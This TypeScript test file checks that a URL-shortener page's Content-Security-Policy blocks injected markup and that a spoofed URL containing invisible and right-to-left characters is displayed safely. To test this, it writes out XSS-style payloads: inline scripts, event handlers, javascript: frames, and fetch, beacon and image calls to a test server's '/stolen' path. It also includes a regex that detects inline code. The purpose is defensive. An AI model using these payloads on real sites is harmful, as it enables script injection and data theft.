// What a script or markup that got into the web page could do: nothing is run, loaded or sent that the page itself does
// not need. A page on S3 has no headers of its own, so the policy is in the page.
import assert from 'node:assert/strict';
import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { uiDist } from '../page/servers.ts';
import { until, useTestPage, type TestPage } from '../page/test-page.ts';
import { fromRoot } from '../helpers/root.ts';

describe('Markup that got into the page', () => {
  const openPage = useTestPage();

  async function openWatched(): Promise<TestPage> {
    const test = await openPage({ breaksPolicy: true });
    await test.page.addInitScript(
      "window.broken = []; addEventListener('securitypolicyviolation', (e) => broken.push(e.effectiveDirective));",
    );
    await test.open();
    await test.page.getByLabel('Long URL').waitFor();
    return test;
  }
  const broken = async ({ page }: TestPage, count: number) => {
    await until(page, `broken.length >= ${count}`);
    return page.evaluate('broken.toSorted()');
  };
  const inject = ({ page }: TestPage, html: string) =>
    page.evaluate(`document.body.append(document.createRange().createContextualFragment(${JSON.stringify(html)}))`);

  it('runs no code: no inline script, no handler, no javascript: address, no script of another server', async () => {
    const test = await openWatched();
    await inject(
      test,
      `<script>document.title = 'taken'</script>
       <img src="./favicon.svg" onload="document.title = 'taken'">
       <iframe src="javascript:parent.document.title = 'taken'"></iframe>
       <script src="${test.destination.url}/evil.js"></script>`,
    );
    const scripts = ['script-src-elem', 'script-src-elem', 'script-src-elem'];
    assert.deepEqual(await broken(test, 4), ['script-src-attr', ...scripts]);
    assert.equal(await test.page.title(), 'Short links');
    assert.deepEqual(test.destination.visits, []);
  });

  it('loads no file of another server, and sends it no form', async () => {
    const test = await openWatched();
    const { url } = test.destination;
    await inject(
      test,
      `<img src="${url}/?stolen"><link rel="stylesheet" href="${url}/a.css"><iframe src="${url}"></iframe>
       <style>body { background: red }</style><p style="color: red">x</p><base href="${url}">
       <object data="${url}"></object><video src="${url}/a.mp4"></video>`,
    );
    const loads = ['base-uri', 'frame-src', 'img-src', 'media-src', 'object-src'];
    const styles = ['style-src-attr', 'style-src-elem', 'style-src-elem'];
    assert.deepEqual(await broken(test, 8), [...loads, ...styles]);
    await inject(test, `<form method="post" action="${url}"><button>Go</button></form>`);
    await test.page.evaluate("document.querySelector('form[method=post]').submit()");
    await until(test.page, "broken.includes('form-action')");
    assert.deepEqual(test.destination.visits, []);
  });

  it('reaches the API and the page’s own website with requests, and no other server', async () => {
    const test = await openWatched();
    const { page, api, destination } = test;
    const reaches = (url: string) =>
      page.evaluate(`fetch(${JSON.stringify(url)}, { mode: 'no-cors' }).then(() => true, () => false)`);
    assert.equal(await reaches(`${api.url}/some`), true);
    assert.equal(await reaches('config.json'), true);
    assert.deepEqual(await page.evaluate('broken'), []);
    assert.equal(await reaches(`${destination.url}/stolen`), false);
    await page.evaluate(`void navigator.sendBeacon('${destination.url}/stolen', 'x')`);
    await page.evaluate(`void new WebSocket('${destination.url.replace('http', 'ws')}')`);
    // Both policies forbid the socket: the page's own, which knows no such scheme, and the narrower one.
    assert.deepEqual(await broken(test, 4), Array(4).fill('connect-src'));
    assert.deepEqual(destination.visits, []);
  });
});

describe('A stored URL with characters that nobody can see', () => {
  const openPage = useTestPage();

  it('is shown as the browser opens it, so that it cannot look like another', async () => {
    const { page, api, open } = await openPage();
    api.links.set('abc', 'https://example.com/\u202egpj.exe?\u200b#\u00ad');
    await open('#/abc');
    const link = page.locator('.long-url a');
    await link.waitFor();
    assert.equal(await link.textContent(), 'https://example.com/%E2%80%AEgpj.exe?%E2%80%8B#%C2%AD');
  });
});

describe('The built page', () => {
  it('has its policy before everything that it loads, and no code or style within itself', async () => {
    const html = (await readFile(join(uiDist, 'index.html'), 'utf8')).replaceAll('&#39;', "'");
    const policy = /<head>\s*<meta http-equiv="Content-Security-Policy" content="([^"]*)">/.exec(html)?.[1];
    assert.equal(
      policy,
      "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self'; connect-src 'self' https: http:; " +
        "base-uri 'none'; form-action 'none'",
    );
    assert.match(html, /<meta name="referrer" content="no-referrer" \/>/);
    assert.doesNotMatch(html, /<style|\sstyle=|\son\w+=|javascript:|<script(?![^>]*\ssrc="\.\/assets\/)/i);
    assert.ok(html.indexOf('<meta charset') < 1024 && html.indexOf('<meta charset') > 0);
  });

  it('names its policy in the words that its README has', async () => {
    const readme = await readFile(fromRoot('ui-src/README.md'), 'utf8');
    const html = (await readFile(join(uiDist, 'index.html'), 'utf8')).replaceAll('&#39;', "'");
    const policy = /Content-Security-Policy" content="([^"]*)"/.exec(html)?.[1] ?? 'none';
    assert.ok(readme.includes(`\`${policy}\``));
    const code = (await readdir(join(uiDist, 'assets'))).filter((name) => name.endsWith('.js'));
    for (const name of code) {
      const text = await readFile(join(uiDist, 'assets', name), 'utf8');
      assert.doesNotMatch(text, /\beval\(|new Function\(/, name);
    }
  });
});
